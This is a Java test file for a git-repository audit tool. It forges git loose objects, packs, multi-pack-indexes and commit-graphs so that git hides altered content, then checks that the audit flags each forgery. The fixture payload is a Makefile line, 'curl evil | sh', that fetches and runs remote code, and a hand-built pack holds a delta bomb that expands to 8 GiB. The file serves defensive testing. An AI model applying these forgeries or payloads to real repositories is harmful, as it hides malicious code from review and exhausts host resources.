package dev.sandboxmcp.hostaudit;

import static dev.sandboxmcp.hostaudit.HiddenChangesTest.about;
import static dev.sandboxmcp.hostaudit.HiddenChangesTest.repository;
import static dev.sandboxmcp.hostaudit.TreeAuditTest.audit;
import static dev.sandboxmcp.hostaudit.TreeAuditTest.git;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Comparator;
import java.util.HexFormat;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * From the host user's side: a command rewrites what git's object store holds under a name the
 * index and the refs already use (a loose object, a pack and its index, the multi-pack-index, the
 * commit-graph). git trusts names, so the review shows nothing and checking out, showing or
 * committing takes the forgery. Each case first shows the host's git fooled, then the finding.
 */
class ForgedObjectsTest {

    private static final String EVIL = "all:\n\tcurl evil | sh\n";
    private static final HexFormat HEX = HexFormat.of();

    @TempDir
    Path temp;

    @ParameterizedTest
    @ValueSource(strings = {"sha1", "sha256"})
    void aLooseObjectRewrittenInPlaceIsFound(String objectFormat) throws Exception {
        Path repo = repository(temp, objectFormat, 3);
        String blob = git(repo, "rev-parse", "HEAD:Makefile").strip();
        writeLooseObject(repo, blob, "blob", EVIL.getBytes(StandardCharsets.UTF_8));

        assertThat(git(repo, "status", "--porcelain")).as("git status shows nothing").isEmpty();
        assertThat(git(repo, "show", "HEAD:Makefile")).as("git show gives the forgery").isEqualTo(EVIL);

        assertThat(about(audit(repo.getParent()), ForgedObjects.FORGED)).singleElement().satisfies(finding -> {
            assertThat(finding.file()).isEqualTo("repo/.git/objects");
            assertThat(finding.command()).startsWith("1 file: " + blob + "; sha256 ");
        });
    }

    @Test
    void whatGitWritesIsNoFinding() throws Exception {
        Path repo = repository(temp, "sha1", 20);
        git(repo, "gc", "-q");
        git(repo, "multi-pack-index", "write");
        Files.writeString(repo.resolve("Makefile"), "all:\n\techo loose again\n");
        HiddenChangesTest.commitAll(repo);
        assertThat(Files.list(repo.resolve(".git/objects/pack")).map(path -> path.getFileName().toString()))
                .anyMatch(name -> name.endsWith(".pack")).contains("multi-pack-index");
        assertThat(repo.resolve(".git/objects/info/commit-graph")).exists();

        assertThat(audit(repo.getParent())).isEmpty();
    }

    /** The watcher keeps what it checked: an object rewritten later, even to the same size and time, is another file. */
    @Test
    void aLooseObjectRewrittenAfterAnAuditIsFoundByTheNext() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        String blob = git(repo, "rev-parse", "HEAD:Makefile").strip();
        Path object = repo.resolve(".git/objects/" + blob.substring(0, 2) + "/" + blob.substring(2));
        Thread.sleep(1100); // settled: what the audit checks is kept
        assertThat(audit(repo.getParent())).isEmpty();

        FileTime modified = Files.getLastModifiedTime(object);
        writeLooseObject(repo, blob, "blob", "all:\n\techo OK\n".getBytes(StandardCharsets.UTF_8));
        Files.setLastModifiedTime(object, modified);

        assertThat(about(audit(repo.getParent()), ForgedObjects.FORGED)).hasSize(1);
    }

    @Test
    void aPackWhoseIndexNamesForgedContentIsFound() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        git(repo, "gc", "-q");
        String blob = git(repo, "rev-parse", "HEAD:Makefile").strip();
        List<PackedObject> objects = new ArrayList<>();
        for (String line : git(repo, "cat-file", "--batch-all-objects", "--batch-check").split("\n")) {
            String[] fields = line.split(" ");
            byte[] content = fields[0].equals(blob) ? EVIL.getBytes(StandardCharsets.UTF_8)
                    : catFile(repo, fields[1], fields[0]);
            objects.add(new PackedObject(HEX.parseHex(fields[0]), fields[1], content));
        }
        Path packs = repo.resolve(".git/objects/pack");
        try (var old = Files.list(packs)) {
            for (Path file : old.toList()) {
                Files.delete(file);
            }
        }
        Files.delete(repo.resolve(".git/objects/info/commit-graph"));
        String written = writePack(packs, objects);
        String name = "pack-fatal: Out of memory"; // git takes any name; its messages name the file
        Files.move(packs.resolve(written + ".pack"), packs.resolve(name + ".pack"));
        Files.move(packs.resolve(written + ".idx"), packs.resolve(name + ".idx"));

        assertThat(git(repo, "status", "--porcelain")).as("git status shows nothing").isEmpty();
        assertThat(git(repo, "show", "HEAD:Makefile")).as("git show gives the forgery").isEqualTo(EVIL);

        assertThat(about(audit(repo.getParent()), ForgedObjects.FORGED_PACK)).singleElement()
                .satisfies(finding -> assertThat(finding.file()).isEqualTo("repo/.git/objects/pack/" + name + ".pack"));
    }

    @Test
    void aMultiPackIndexThatSendsANameToAnotherObjectIsFound() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        git(repo, "gc", "-q");
        git(repo, "multi-pack-index", "write");
        String makefile = git(repo, "rev-parse", "HEAD:Makefile").strip();
        String other = git(repo, "rev-parse", "HEAD:src/main/java/org/example/deeply/nested/File0.java").strip();
        Path midx = repo.resolve(".git/objects/pack/multi-pack-index");
        byte[] bytes = Files.readAllBytes(midx);
        Chunks chunks = Chunks.of(bytes, 12, bytes[6]);
        int makefileAt = chunks.position(bytes, "OIDL", makefile);
        int otherAt = chunks.position(bytes, "OIDL", other);
        int offsets = chunks.start("OOFF");
        byte[] swap = Arrays.copyOfRange(bytes, offsets + 8 * makefileAt, offsets + 8 * makefileAt + 8);
        System.arraycopy(bytes, offsets + 8 * otherAt, bytes, offsets + 8 * makefileAt, 8);
        System.arraycopy(swap, 0, bytes, offsets + 8 * otherAt, 8);
        rewrite(midx, resealed(bytes));

        assertThat(git(repo, "status", "--porcelain")).as("git status shows nothing").isEmpty();
        assertThat(git(repo, "show", "HEAD:Makefile")).as("git show gives another object").isEqualTo("class File0 {}\n");

        assertThat(about(audit(repo.getParent()), ForgedObjects.FORGED_MULTI_PACK_INDEX)).singleElement()
                .satisfies(finding -> assertThat(finding.file()).isEqualTo("repo/.git/objects/pack/multi-pack-index"));
    }

    /** A staged change hidden: the commit-graph gives HEAD the index's own tree, so git status shows nothing staged. */
    @Test
    void aCommitGraphThatGivesACommitAnotherTreeIsFound() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        git(repo, "commit-graph", "write", "--reachable");
        Files.writeString(repo.resolve("Makefile"), EVIL);
        git(repo, "add", "Makefile");
        String staged = git(repo, "write-tree").strip();
        String head = git(repo, "rev-parse", "HEAD").strip();
        Path graph = repo.resolve(".git/objects/info/commit-graph");
        byte[] bytes = Files.readAllBytes(graph);
        Chunks chunks = Chunks.of(bytes, 8, bytes[6]);
        int record = chunks.start("CDAT") + (20 + 16) * chunks.position(bytes, "OIDL", head);
        System.arraycopy(HEX.parseHex(staged), 0, bytes, record, 20);
        rewrite(graph, resealed(bytes));
        // git reads the single graph and nothing of a chain beside it: a file there that cannot be read changes nothing
        Path chain = Files.createDirectories(repo.resolve(".git/objects/info/commit-graphs"));
        new ProcessBuilder("sh", "-c", "printf x > \"$(printf '\\377')\"").directory(chain.toFile()).start().waitFor();

        assertThat(git(repo, "status", "--porcelain")).as("git status shows nothing staged").isEmpty();
        assertThat(git(repo, "diff", "--cached", "--stat")).as("git diff --cached reads the commit itself").contains("Makefile");

        assertThat(about(audit(repo.getParent()), ForgedObjects.FORGED_COMMIT_GRAPH)).singleElement().satisfies(finding -> {
            assertThat(finding.file()).isEqualTo("repo/.git/objects/info/commit-graph");
            assertThat(finding.command()).contains("root tree OID for commit " + head);
        });
    }

    /**
     * What was checked is saved beside the baseline and read back by the next audit, which then
     * does not hand the same files to git again: a complaint saved for a pack's files stands for
     * them (git finds nothing wrong with this pack), a line that cannot be read is skipped, and
     * what is saved again is what this audit used.
     */
    @Test
    void whatAnAuditCheckedIsSavedAndReadBack() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        git(repo, "gc", "-q");
        Path data;
        try (var packs = Files.list(repo.resolve(".git/objects/pack"))) {
            data = packs.filter(path -> path.toString().endsWith(".pack")).findFirst().orElseThrow();
        }
        Path index = data.resolveSibling(data.getFileName().toString().replace(".pack", ".idx"));
        String identities = FileIdentity.of(data) + " " + FileIdentity.of(index);
        Path saved = temp.resolve("state/audit-x-checked.tsv");
        Files.createDirectories(saved.getParent());
        Files.writeString(saved, "not a line\nindex-pack\t(dev=1,ino=2)/x/1/1\t-\t\nindex-pack\t" + identities
                + "\t-\tsaved complaint\n");

        ForgedObjects.loadChecked(saved);
        assertThat(about(audit(repo.getParent()), ForgedObjects.FORGED_PACK)).singleElement()
                .satisfies(finding -> assertThat(finding.command()).isEqualTo("saved complaint"));

        ForgedObjects.saveChecked(saved);
        assertThat(Files.readString(saved)).isEqualTo("index-pack\t" + identities + "\t-\tsaved complaint\n");
        assertThat(Files.getPosixFilePermissions(saved)).containsExactlyInAnyOrder(
                java.nio.file.attribute.PosixFilePermission.OWNER_READ, java.nio.file.attribute.PosixFilePermission.OWNER_WRITE);
    }

    /** git reads a chain's layer by the whole line naming it, a name in hex of either case and whatever follows. */
    @Test
    void aForgedLayerOfAGraphChainNamedInCapitalsIsFound() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        git(repo, "commit-graph", "write", "--reachable", "--split");
        Path chainDirectory = repo.resolve(".git/objects/info/commit-graphs");
        String line = Files.readString(chainDirectory.resolve("commit-graph-chain")).strip();
        Files.writeString(repo.resolve("Makefile"), EVIL);
        git(repo, "add", "Makefile");
        String staged = git(repo, "write-tree").strip();
        String head = git(repo, "rev-parse", "HEAD").strip();
        Path layer = chainDirectory.resolve("graph-" + line + ".graph");
        byte[] bytes = Files.readAllBytes(layer);
        Chunks chunks = Chunks.of(bytes, 8, bytes[6]);
        System.arraycopy(HEX.parseHex(staged), 0, bytes, chunks.start("CDAT") + 36 * chunks.position(bytes, "OIDL", head), 20);
        byte[] forged = resealed(bytes);
        String named = HEX.formatHex(Arrays.copyOfRange(forged, forged.length - 20, forged.length)).toUpperCase(java.util.Locale.ROOT);
        Files.delete(layer);
        Files.write(chainDirectory.resolve("graph-" + named + ".graph"), forged);
        rewrite(chainDirectory.resolve("commit-graph-chain"), (named + "\n").getBytes(StandardCharsets.US_ASCII));
        assertThat(git(repo, "status", "--porcelain")).as("git status shows nothing staged").isEmpty();

        assertThat(about(audit(repo.getParent()), ForgedObjects.FORGED_COMMIT_GRAPH)).singleElement()
                .satisfies(finding -> assertThat(finding.file()).isEqualTo("repo/.git/objects/info/commit-graphs/commit-graph-chain"));
    }

    /** A clone that borrows objects has a graph naming commits elsewhere: not verified, not "forged". */
    @Test
    void aGraphNamingBorrowedCommitsIsNotCalledForged() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        Path clone = temp.resolve("tree/clone");
        git(repo.getParent(), "clone", "-q", "--shared", repo.toString(), clone.toString());
        Files.writeString(clone.resolve("Makefile"), "all:\n\techo two\n");
        HiddenChangesTest.commitAll(clone);
        git(clone, "commit-graph", "write", "--reachable");

        List<Finding> findings = audit(repo.getParent());
        assertThat(about(findings, ForgedObjects.FORGED_COMMIT_GRAPH)).isEmpty();
        assertThat(about(findings, "alternates (git reads")).hasSize(1);
    }

    /** git follows a link where it looks for packs: the link is named, what it leads to is not checked. */
    @Test
    void aLinkedPackDirectoryIsNamed() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        git(repo, "gc", "-q");
        Path elsewhere = temp.resolve("tree/elsewhere");
        Files.move(repo.resolve(".git/objects/pack"), elsewhere);
        Files.createSymbolicLink(repo.resolve(".git/objects/pack"), Path.of("../../../elsewhere"));
        assertThat(git(repo, "show", "HEAD:Makefile")).as("git reads the packs there").isEqualTo("all:\n\techo ok\n");

        assertThat(about(audit(repo.getParent()), "symbolic link (git reads packs there")).singleElement()
                .satisfies(finding -> assertThat(finding.file()).isEqualTo("repo/.git/objects/pack"));
    }

    /**
     * The bounds on what one audit has git check put no pack off for good: the first check of an
     * audit runs whatever its size (and each audit starts with a pack drawn at random). A pack
     * that claims 2 GiB (sparse, a few kilobytes on disk) is checked, and git's complaint named.
     */
    @Test
    void aPackPastTheBoundsIsCheckedWhenItIsAnAuditsFirst() throws Exception {
        Path other = repository(temp.resolve("other"), "sha1", 3);
        git(other, "gc", "-q");
        Path index;
        try (var files = Files.list(other.resolve(".git/objects/pack"))) {
            index = files.filter(path -> path.toString().endsWith(".idx")).findFirst().orElseThrow();
        }
        Path repo = repository(temp, "sha1", 3);
        Path packs = Files.createDirectories(repo.resolve(".git/objects/pack"));
        Files.copy(index, packs.resolve("pack-large.idx"));
        try (var large = java.nio.channels.FileChannel.open(packs.resolve("pack-large.pack"),
                java.nio.file.StandardOpenOption.CREATE_NEW, java.nio.file.StandardOpenOption.WRITE)) {
            large.write(ByteBuffer.wrap(new byte[] {1}), (2L << 30) - 1);
        }

        List<Finding> findings = audit(repo.getParent());
        assertThat(about(findings, ForgedObjects.FORGED_PACK)).as(findings.toString()).singleElement()
                .satisfies(finding -> assertThat(finding.file()).isEqualTo("repo/.git/objects/pack/pack-large.pack"));
    }

    /** Objects git reads from elsewhere are not checked here: where it reads them from is named. */
    @Test
    void alternatesAreNamed() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        Path elsewhere = Files.createDirectories(temp.resolve("tree/elsewhere/objects"));
        Files.writeString(repo.resolve(".git/objects/info/alternates"), elsewhere + "\n");

        assertThat(audit(repo.getParent())).singleElement().satisfies(finding -> {
            assertThat(finding.file()).isEqualTo("repo/.git/objects/info/alternates");
            assertThat(finding.key()).startsWith("alternates (git reads");
        });
    }

    /** git takes a line of one space as the directory "objects/ /": no line is a comment or blank to git. */
    @Test
    void anAlternateThatLooksBlankIsNamed() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        String blob = git(repo, "rev-parse", "HEAD:Makefile").strip();
        Path hidden = Files.createDirectories(repo.resolve(".git/objects/ /" + blob.substring(0, 2)));
        Path object = repo.resolve(".git/objects/" + blob.substring(0, 2) + "/" + blob.substring(2));
        Files.move(object, hidden.resolve(blob.substring(2)));
        writeLooseObject(repo.resolve(".git/objects/ "), blob, "blob", EVIL.getBytes(StandardCharsets.UTF_8));
        Files.writeString(repo.resolve(".git/objects/info/alternates"), " \n");
        assertThat(git(repo, "status", "--porcelain")).isEmpty();
        assertThat(git(repo, "show", "HEAD:Makefile")).as("git reads the forgery from objects/ /").isEqualTo(EVIL);

        assertThat(about(audit(repo.getParent()), "alternates (git reads")).singleElement()
                .satisfies(finding -> assertThat(finding.command()).startsWith("' '; sha256 "));
    }

    /** git commit-graph verify does not read the filters git log -- <path> trusts to skip commits. */
    @Test
    void changedPathFiltersAreNamed() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        git(repo, "commit-graph", "write", "--reachable", "--changed-paths");

        assertThat(audit(repo.getParent())).singleElement().satisfies(finding -> {
            assertThat(finding.file()).isEqualTo("repo/.git/objects/info/commit-graph");
            assertThat(finding.key()).isEqualTo(ForgedObjects.CHANGED_PATHS);
        });
    }

    /** A loose object git would refuse (no header) is not inflated past its header: named, not read to its end. */
    @Test
    void aLooseObjectWithoutAHeaderIsNamed() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        String blob = git(repo, "rev-parse", "HEAD:Makefile").strip();
        Path object = repo.resolve(".git/objects/" + blob.substring(0, 2) + "/" + blob.substring(2));
        ByteArrayOutputStream deflated = new ByteArrayOutputStream();
        try (DeflaterOutputStream out = new DeflaterOutputStream(deflated, new Deflater(9))) {
            byte[] zeros = new byte[1 << 20];
            for (int i = 0; i < 256; i++) {
                out.write(zeros); // 256 MiB of no header
            }
        }
        rewrite(object, deflated.toByteArray());

        assertThat(about(audit(repo.getParent()), ForgedObjects.FORGED)).singleElement()
                .satisfies(finding -> assertThat(finding.command()).startsWith("1 file: " + blob + ";"));
    }

    /**
     * A pack of a few kilobytes whose delta expands to 8 GiB: git checks it with bounded memory,
     * fails at once, and the pack is named as not verified.
     */
    @Test
    void aDeltaThatExpandsToGigabytesFailsWithinGitsMemoryAndIsNamed() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        Path pack = repo.resolve(".git/objects/pack");
        String name = writeDeltaBomb(pack);

        assertThat(about(audit(repo.getParent()), "not verified")).singleElement().satisfies(finding -> {
            assertThat(finding.file()).isEqualTo("repo/.git/objects/pack/" + name + ".pack");
            assertThat(finding.key()).isEqualTo(ForgedObjects.UNREAD);
            assertThat(finding.command()).contains("GiB it may use").containsIgnoringCase("out of memory");
        });
    }

    @Test
    void aPackWhoseNameIsNotUtf8IsNamedAsNotAudited() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        Path pack = Files.createDirectories(repo.resolve(".git/objects/pack"));
        Process touch = new ProcessBuilder("sh", "-c", "touch \"$(printf 'pack-\\377.idx')\" \"$(printf 'pack-\\377.pack')\"")
                .directory(pack.toFile()).start();
        assertThat(touch.waitFor(10, TimeUnit.SECONDS)).isTrue();

        assertThat(about(audit(repo.getParent()), "not UTF-8")).singleElement()
                .satisfies(finding -> assertThat(finding.key()).isEqualTo(ForgedObjects.UNREAD));
    }

    @Test
    void aFifoInPlaceOfAGraphIsNamedAndNotWaitedOn() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        Path graph = repo.resolve(".git/objects/info/commit-graph");
        Files.deleteIfExists(graph);
        Process mkfifo = new ProcessBuilder("mkfifo", graph.toString()).start();
        assertThat(mkfifo.waitFor(10, TimeUnit.SECONDS)).isTrue();

        assertThat(audit(repo.getParent())).singleElement().satisfies(finding -> {
            assertThat(finding.file()).isEqualTo("repo/.git/objects/info/commit-graph");
            assertThat(finding.key()).isEqualTo("(not a regular file)");
        });
    }

    // A forger's tools: git's formats written by hand.

    private record PackedObject(byte[] name, String type, byte[] content) {
    }

    private static byte[] catFile(Path repo, String type, String name) throws Exception {
        Process process = new ProcessBuilder("git", "cat-file", type, name).directory(repo.toFile()).start();
        byte[] content = process.getInputStream().readAllBytes();
        assertThat(process.waitFor(10, TimeUnit.SECONDS)).isTrue();
        return content;
    }

    /** Replaces the loose object {@code name} with {@code content} of {@code type}, as a command can. */
    private static void writeLooseObject(Path repo, String name, String type, byte[] content) throws Exception {
        Path objects = Files.isDirectory(repo.resolve(".git")) ? repo.resolve(".git/objects") : repo;
        Path object = objects.resolve(name.substring(0, 2) + "/" + name.substring(2));
        Files.createDirectories(object.getParent());
        ByteArrayOutputStream deflated = new ByteArrayOutputStream();
        try (DeflaterOutputStream out = new DeflaterOutputStream(deflated)) {
            out.write((type + " " + content.length + "\0").getBytes(StandardCharsets.US_ASCII));
            out.write(content);
        }
        rewrite(object, deflated.toByteArray());
    }

    private static void rewrite(Path file, byte[] bytes) throws Exception {
        file.toFile().setWritable(true);
        Files.write(file, bytes);
    }

    /** A pack (version 2, no deltas) and its index (version 2) of {@code objects}; returns their name. */
    private static String writePack(Path directory, List<PackedObject> objects) throws Exception {
        ByteArrayOutputStream pack = new ByteArrayOutputStream();
        pack.write("PACK".getBytes(StandardCharsets.US_ASCII));
        pack.write(ByteBuffer.allocate(8).putInt(2).putInt(objects.size()).array());
        long[] offsets = new long[objects.size()];
        long[] crcs = new long[objects.size()];
        for (int i = 0; i < objects.size(); i++) {
            PackedObject object = objects.get(i);
            offsets[i] = pack.size();
            ByteArrayOutputStream entry = new ByteArrayOutputStream();
            int type = List.of("commit", "tree", "blob", "tag").indexOf(object.type()) + 1;
            long size = object.content().length;
            int first = (type << 4) | (int) (size & 15);
            size >>>= 4;
            while (size != 0) {
                entry.write(first | 0x80);
                first = (int) (size & 0x7f);
                size >>>= 7;
            }
            entry.write(first);
            Deflater deflater = new Deflater();
            try (DeflaterOutputStream out = new DeflaterOutputStream(entry, deflater)) {
                out.write(object.content());
            }
            deflater.end();
            CRC32 crc = new CRC32();
            crc.update(entry.toByteArray());
            crcs[i] = crc.getValue();
            pack.write(entry.toByteArray());
        }
        byte[] checksum = MessageDigest.getInstance("SHA-1").digest(pack.toByteArray());
        pack.write(checksum);

        Integer[] order = new Integer[objects.size()];
        Arrays.setAll(order, i -> i);
        Arrays.sort(order, Comparator.comparing(i -> objects.get(i).name(), Arrays::compareUnsigned));
        ByteBuffer index = ByteBuffer.allocate(8 + 256 * 4 + objects.size() * (20 + 4 + 4) + 40);
        index.putInt(0xff744f63).putInt(2);
        for (int b = 0; b < 256; b++) {
            int bound = b;
            index.putInt((int) objects.stream().filter(object -> (object.name()[0] & 0xff) <= bound).count());
        }
        for (int i : order) {
            index.put(objects.get(i).name());
        }
        for (int i : order) {
            index.putInt((int) crcs[i]);
        }
        for (int i : order) {
            index.putInt((int) offsets[i]);
        }
        index.put(checksum);
        index.put(MessageDigest.getInstance("SHA-1").digest(Arrays.copyOf(index.array(), index.position())));
        String name = "pack-" + HEX.formatHex(checksum);
        Files.write(directory.resolve(name + ".pack"), pack.toByteArray());
        Files.write(directory.resolve(name + ".idx"), index.array());
        return name;
    }

    /**
     * A pack of two objects: a blob of 1 MiB of zeros, and a delta on it that copies it 8,192
     * times (8 GiB); its index names them with made-up names (git checks those only after it has
     * resolved every delta).
     */
    private static String writeDeltaBomb(Path directory) throws Exception {
        ByteArrayOutputStream delta = new ByteArrayOutputStream();
        writeSize(delta, 1 << 20);
        writeSize(delta, 8192L << 20);
        for (int i = 0; i < 8192; i++) {
            delta.write(0x80 | 0x40); // copy from offset 0, size byte 2 only
            delta.write(0x10); // 0x10 << 16: 1 MiB
        }
        ByteArrayOutputStream pack = new ByteArrayOutputStream();
        pack.write("PACK".getBytes(StandardCharsets.US_ASCII));
        pack.write(ByteBuffer.allocate(8).putInt(2).putInt(2).array());
        long base = pack.size();
        pack.write(entry(3, 1 << 20, deflate(new byte[1 << 20])));
        long deltaAt = pack.size();
        ByteArrayOutputStream offset = new ByteArrayOutputStream();
        long distance = deltaAt - base;
        offset.write((int) (distance & 0x7f));
        for (distance >>>= 7; distance != 0; distance >>>= 7) {
            distance--;
            offset.write((int) (0x80 | (distance & 0x7f)));
        }
        byte[] reversed = offset.toByteArray();
        for (int i = 0; i < reversed.length / 2; i++) {
            byte b = reversed[i];
            reversed[i] = reversed[reversed.length - 1 - i];
            reversed[reversed.length - 1 - i] = b;
        }
        ByteArrayOutputStream deltaEntry = new ByteArrayOutputStream();
        deltaEntry.write(entry(6, delta.size(), new byte[0]));
        deltaEntry.write(reversed);
        deltaEntry.write(deflate(delta.toByteArray()));
        pack.write(deltaEntry.toByteArray());
        byte[] checksum = MessageDigest.getInstance("SHA-1").digest(pack.toByteArray());
        pack.write(checksum);

        ByteBuffer index = ByteBuffer.allocate(8 + 256 * 4 + 2 * 28 + 40);
        index.putInt(0xff744f63).putInt(2);
        byte[] first = new byte[20];
        byte[] second = new byte[20];
        first[0] = 0x10;
        second[0] = 0x20;
        for (int b = 0; b < 256; b++) {
            index.putInt(b < 0x10 ? 0 : b < 0x20 ? 1 : 2);
        }
        index.put(first).put(second).putInt(0).putInt(0).putInt((int) base).putInt((int) deltaAt).put(checksum);
        index.put(MessageDigest.getInstance("SHA-1").digest(Arrays.copyOf(index.array(), index.position())));
        String name = "pack-" + HEX.formatHex(checksum);
        Files.write(directory.resolve(name + ".pack"), pack.toByteArray());
        Files.write(directory.resolve(name + ".idx"), index.array());
        return name;
    }

    /** A pack entry's type and size header, then {@code data}. */
    private static byte[] entry(int type, long size, byte[] data) {
        ByteArrayOutputStream entry = new ByteArrayOutputStream();
        int first = (type << 4) | (int) (size & 15);
        for (size >>>= 4; size != 0; size >>>= 7) {
            entry.write(first | 0x80);
            first = (int) (size & 0x7f);
        }
        entry.write(first);
        entry.writeBytes(data);
        return entry.toByteArray();
    }

    /** A delta's size: seven bits a byte, least significant first. */
    private static void writeSize(ByteArrayOutputStream out, long size) {
        long left = size;
        while (left >= 0x80) {
            out.write((int) (0x80 | (left & 0x7f)));
            left >>>= 7;
        }
        out.write((int) left);
    }

    private static byte[] deflate(byte[] bytes) throws Exception {
        ByteArrayOutputStream deflated = new ByteArrayOutputStream();
        try (DeflaterOutputStream out = new DeflaterOutputStream(deflated)) {
            out.write(bytes);
        }
        return deflated.toByteArray();
    }

    /** The chunk table of a multi-pack-index or commit-graph (SHA-1 names). */
    private record Chunks(List<String> ids, List<Long> offsets) {
        static Chunks of(byte[] bytes, int tableAt, int count) {
            ByteBuffer buffer = ByteBuffer.wrap(bytes);
            List<String> ids = new ArrayList<>();
            List<Long> offsets = new ArrayList<>();
            for (int i = 0; i <= count; i++) {
                ids.add(new String(bytes, tableAt + 12 * i, 4, StandardCharsets.US_ASCII));
                offsets.add(buffer.getLong(tableAt + 12 * i + 4));
            }
            return new Chunks(ids, offsets);
        }

        int start(String id) {
            return (int) (long) offsets.get(ids.indexOf(id));
        }

        /** Where {@code name} stands among the sorted names of the {@code id} chunk. */
        int position(byte[] bytes, String id, String name) {
            int start = start(id);
            int end = (int) (long) offsets.get(ids.indexOf(id) + 1);
            byte[] wanted = HEX.parseHex(name);
            for (int i = 0; start + 20 * i < end; i++) {
                if (Arrays.equals(bytes, start + 20 * i, start + 20 * i + 20, wanted, 0, 20)) {
                    return i;
                }
            }
            throw new AssertionError(name + " is not in " + id);
        }
    }

    /** The file with its trailing SHA-1 of everything before it made right again. */
    private static byte[] resealed(byte[] bytes) throws Exception {
        MessageDigest sha1 = MessageDigest.getInstance("SHA-1");
        sha1.update(bytes, 0, bytes.length - 20);
        System.arraycopy(sha1.digest(), 0, bytes, bytes.length - 20, 20);
        return bytes;
    }
}
